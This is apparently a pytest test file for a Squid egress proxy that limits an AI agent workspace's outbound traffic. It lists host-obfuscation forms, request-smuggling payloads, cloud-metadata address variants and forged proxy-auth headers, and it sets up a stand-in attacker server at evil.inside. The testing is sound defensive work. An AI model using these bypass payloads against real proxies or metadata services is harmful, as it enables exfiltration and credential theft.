"""Wall: the egress proxy, a real Squid. Whatever a workspace sends it, only listed hosts are reached.

The decoy: the same forms of request reach the listed host, and the attacker's server counts who connects.
"""

import base64
import contextlib
import re
import socket
import threading
from collections.abc import Callable, Iterator

import pytest
from coding_agent_core.task.egress import Role, password, profile_of, user_name

from tests.fixtures.egress import KEY, EgressProxy, StartEgress
from tests.integration.chart.test_metadata_addresses import METADATA

_OTHER_FORMS = {
    "64:ff9b::a9fe:a9fe": "through NAT64",
    "2002:a9fe:a9fe::1": "6to4",
    "::ffff:169.254.169.254": "IPv4-mapped",
    "::169.254.169.254": "IPv4-compatible, which is deprecated",
}
"""Of 169.254.169.254, in IPv6."""
_CLOUDS = {f"m{number}.cloud.inside": address for number, address in enumerate([*METADATA, *_OTHER_FORMS])}


class Host:
    """A server that keeps what each connection sent, and answers it like a web server.

    Attributes:
        seen: the first bytes of each connection.
    """

    def __init__(self, address: str, port: int = 0) -> None:
        self.seen: list[bytes] = []
        self._listener = socket.create_server((address, port))
        self.port: int = self._listener.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        self._listener.close()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(60)
                self.seen.append(b"")
                try:
                    self.seen[-1] = connection.recv(65536)
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
                except OSError:
                    pass


@pytest.fixture(scope="module")
def packages() -> Iterator[Host]:
    """What the workspace may reach, as `packages.inside`."""
    host = Host("127.0.0.1")
    yield host
    host.close()


@pytest.fixture(scope="module")
def attacker(packages: Host) -> Iterator[Host]:
    """Another machine, on the same port, as `evil.inside`. The settings do not name it."""
    host = Host("127.0.0.2", packages.port)
    yield host
    host.close()


@pytest.fixture(scope="module")
def proxy(start_egress: StartEgress, packages: Host, attacker: Host) -> EgressProxy:
    port = packages.port
    clouds = ["*.cloud.inside", f"*.cloud.inside:{port}"]
    return start_egress(
        {
            "egress": {
                "allow": ["packages.inside", f"packages.inside:{port}", f"rebound.inside:{port}", *clouds],
                "agent": clouds,
                "private": ["packages.inside", "*.cloud.inside"],
            },
            "llm": {"openai": {"base_url": f"http://model.inside:{port}/v1", "api_key": "k"}},
        },
        {
            **dict.fromkeys(("packages.inside", "model.inside"), "127.0.0.1"),
            **dict.fromkeys(("evil.inside", "rebound.inside"), "127.0.0.2"),
            **_CLOUDS,
        },
    )


Say = Callable[[bytes], bytes]


@pytest.fixture
def say(proxy: EgressProxy, packages: Host) -> Say:
    """Send the proxy these bytes as the workspace; all that it answers until it closes the connection.

    `PORT` is replaced; `STAY` by the identity, and `AUTH` by the identity and `Connection: close`.
    """
    user = user_name("job-1", Role.WORKSPACE)
    auth = _authorization(user, password(user, KEY))

    def exchange(text: bytes) -> bytes:
        text = text.replace(b"AUTH\r\n", b"STAY\r\nConnection: close\r\n").replace(b"STAY\r\n", auth)
        return _said(proxy, text.replace(b"PORT", str(packages.port).encode()))

    return exchange


def _authorization(user: str | bytes, given: str | bytes, scheme: str = "Basic") -> bytes:
    pair = b":".join(one.encode() if isinstance(one, str) else one for one in (user, given))
    return f"Proxy-Authorization: {scheme} {base64.b64encode(pair).decode()}\r\n".encode()


def _said(proxy: EgressProxy, text: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=60) as way:
        said = b""
        with contextlib.suppress(ConnectionResetError, BrokenPipeError):  # what it did not want to read
            way.sendall(text)
        with contextlib.suppress(ConnectionResetError):
            while part := way.recv(65536):
                said += part
        return said


def _statuses(said: bytes) -> list[int]:
    return [int(status) for status in re.findall(rb"HTTP/1\.[01] (\d{3}) ", said)]


HOSTS = [
    *(b"evil.inside", b"EVIL.inside", b"evil.inside.", b"evil%2einside", b"evil.inside%00packages.inside"),
    *(b"127.0.0.2", b"127.2", b"127.0.2", b"2130706434", b"0x7f000002", b"0X7F.0.0.2", b"0177.0.0.2"),
    *(b"017700000002", b"127.0.0.2.", b"127.0.0.0x2", b"[::ffff:127.0.0.2]", b"[::ffff:7f00:2]", b"[::1]"),
    *(b"[0:0:0:0:0:ffff:7f00:0002]", b"::ffff:127.0.0.2", b"localhost", b"rebound.inside"),
    *(b"packages.inside@evil.inside", b"packages.inside:PORT@evil.inside", b"packages.inside%40evil.inside"),
    *(b"packages.inside:x@127.0.0.2", b"evil.inside#@packages.inside", b"evil.inside\\@packages.inside"),
    *(b"packages.inside.evil.inside", b"notpackages.inside", b"packages.inside,evil.inside"),
]


def test_no_way_to_write_a_host_reaches_another(say: Say, attacker: Host, packages: Host) -> None:
    for host in HOSTS:
        for request in (
            b"GET http://%s:PORT/secret HTTP/1.1\r\nHost: packages.inside:PORT\r\nAUTH\r\n\r\n",
            b"CONNECT %s:PORT HTTP/1.1\r\nHost: packages.inside:PORT\r\nAUTH\r\n\r\nsecret",
        ):
            before = len(packages.seen)
            statuses = _statuses(say(request % host))
            # What is after the port is cut off.
            assert statuses[0] >= 400 or len(packages.seen) == before + 1, host
            assert attacker.seen == [], host


REQUESTS = (
    b"GET /secret HTTP/1.1\r\nHost: evil.inside:PORT\r\nAUTH\r\n\r\n",
    b"GET http://evil.inside:PORT/\r\n",  # HTTP/0.9
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET http://evil.inside:PORT/ HTTP/1.1\r\nHost: x\r\nAUTH\r\nConnection: Upgrade\r\n"
    b"Upgrade: websocket\r\nSec-WebSocket-Key: a\r\n\r\n",
    b"GET http://packages.inside:PORT/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",  # no identity
    b"GET http://packages.inside:PORT/ HTTP/1.1\r\nHost: x\r\nAuthorization: Basic eDp5\r\n"  # the server's
    b"Connection: close\r\n\r\n",
    *(
        b"%s HTTP/1.1\r\nHost: x\r\nAUTH\r\n\r\n" % line
        for line in (
            b"GET https://packages.inside/",  # TLS by the proxy
            b"GET ftp://evil.inside:PORT/",
            b"GET urn:evil:secret",
            b"GET cache_object://127.0.0.1/config",
            b"GET http://egress/squid-internal-mgr/config",
            b"GET http://denials.egress.internal/",
            b"GET http://packages.inside:22/",
            b"CONNECT packages.inside:22",
            b"CONNECT packages.inside:25",
            b"CONNECT packages.inside:53",
            b"CONNECT packages.inside:80",
            b"CONNECT packages.inside:65558",  # 22, if it overflows
        )
    ),
)


def test_other_requests_are_refused(say: Say, attacker: Host, packages: Host) -> None:
    for request in REQUESTS:
        before = len(packages.seen)
        assert _statuses(say(request))[0] >= 400, request
        assert (attacker.seen, len(packages.seen)) == ([], before), request


def test_each_request_of_a_connection_is_decided(say: Say, attacker: Host, packages: Host) -> None:
    first = b"GET http://packages.inside:PORT/ HTTP/1.1\r\nHost: x\r\nSTAY\r\n\r\n"
    other = b"GET http://evil.inside:PORT/secret HTTP/1.1\r\nHost: packages.inside\r\nAUTH\r\n\r\n"
    said = say(first + other)
    assert _statuses(said) == [200, 403], said
    smuggled = (
        b"POST http://packages.inside:PORT/ HTTP/1.1\r\nHost: x\r\nSTAY\r\nContent-Length: %d\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (len(other) + 5)
    )
    assert _statuses(say(smuggled + other))
    assert attacker.seen == []


def test_plain_http_cannot_be_fronted(say: Say, attacker: Host, packages: Host) -> None:
    """A host with many names would take the request for that of its `Host` header."""
    said = say(b"GET http://packages.inside:PORT/a HTTP/1.1\r\nHost: evil.inside\r\nAUTH\r\n\r\n")
    assert _statuses(said) == [200]
    assert f"Host: packages.inside:{packages.port}\r\n".encode() in packages.seen[-1]
    assert b"evil" not in packages.seen[-1]
    assert b"Proxy-Authorization" not in packages.seen[-1], "a listed host does not get the identity"
    assert attacker.seen == []


def test_a_tunnel_ends_at_its_host_whatever_is_said_in_it(say: Say, attacker: Host, packages: Host) -> None:
    """Also a TLS name: the proxy does not read it."""
    said = say(
        b"CONNECT packages.inside:PORT HTTP/1.1\r\nHost: evil.inside\r\nAUTH\r\n\r\nGET http://evil.inside/"
    )
    assert _statuses(said)[0] == 200
    assert (packages.seen[-1], attacker.seen) == (b"GET http://evil.inside/", [])


@pytest.mark.parametrize("role", list(Role))
def test_no_identity_reaches_a_metadata_service(proxy: EgressProxy, packages: Host, role: Role) -> None:
    """Not even where the settings list its name and allow its private address."""
    for name, address in _CLOUDS.items():
        written = f"[{address}]" if ":" in address else address
        for url in (
            f"http://{name}/",
            f"https://{name}/",
            f"http://{name}:{packages.port}/",
            f"http://{written}/",
        ):
            assert proxy.get(url, role=role).status_code == 403, (url, address)


def _identities() -> Iterator[bytes]:
    """Of one who holds the identity of `job-1`'s workspace, and wants another."""
    mine, agent = "job-1.workspace", "job-1.agent"
    own = password(mine, KEY)
    for name in (
        *("job-2.workspace", agent, "job-2.agent", f"{mine}.{profile_of('o/mine')}", "x.agent.workspace"),
        *("job-1.workspace.agent", "job-1.agent.workspace", "JOB-1.WORKSPACE", "job-1.Agent", ".agent"),
        *("agent", "job-1%2eagent", "job-1.agent%00.workspace", "job-1.agent\0", "\0job-1.agent", ""),
        *("job-1.agent\0.workspace", "job-1.agent\n", "job-1.agent\r\njob-1.workspace", " job-1.agent"),
        *("job-1.agent\t", "job-1\uff0eagent", f"{mine}\n{agent}", f"{mine} {agent}", "a" * 40_000),
    ):
        yield _authorization(name, own)
    for key in ("", "another key", f"{KEY} ", KEY[:-1], own):
        yield _authorization(agent, password(agent, key))
    for given in ("", own[:-1], own + "0", "\0", f"{own}\0", f"{own}\n", "0" * 32, "a" * 40_000):
        yield _authorization(agent, given)
    for scheme in ("Bearer", "Digest", "NTLM", "Negotiate", "Basic Basic"):
        yield _authorization(agent, own, scheme)
    yield b"Proxy-Authorization: Basic am9iLTEuYWdlbnQ=\r\n"  # no colon
    yield b"Proxy-Authorization: Basic job-1.agent:x\r\n"  # not base64
    yield _authorization(mine, own) + _authorization(agent, own)
    yield _authorization(agent, own) + _authorization(mine, own)


def test_no_other_identity_can_be_made(proxy: EgressProxy, packages: Host, attacker: Host) -> None:
    request = f"GET http://model.inside:{packages.port}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
    for header in _identities():
        before = len(packages.seen)
        said = _said(proxy, request.encode() + header + b"\r\n")
        statuses = _statuses(said)
        assert statuses, (header, said)
        assert set(statuses) <= {400, 403, 407, 431}, (header, said)
        assert (len(packages.seen), attacker.seen) == (before, []), header


def test_the_decoys(proxy: EgressProxy, packages: Host, attacker: Host, say: Say) -> None:
    """What the trials above ask for is there for whom it is meant, and the attacker's server counts."""
    assert proxy.get(f"http://model.inside:{packages.port}/", role=Role.AGENT).status_code == 200
    for form in (b"packages.inside", b"PACKAGES.inside"):
        said = say(b"GET http://%s:PORT/ HTTP/1.1\r\nHost: x\r\nAUTH\r\n\r\n" % form)
        assert _statuses(said) == [200]
    with socket.create_connection(("127.0.0.2", attacker.port), timeout=60) as way:
        way.sendall(b"secret")
        assert way.recv(10)
    assert attacker.seen == [b"secret"]
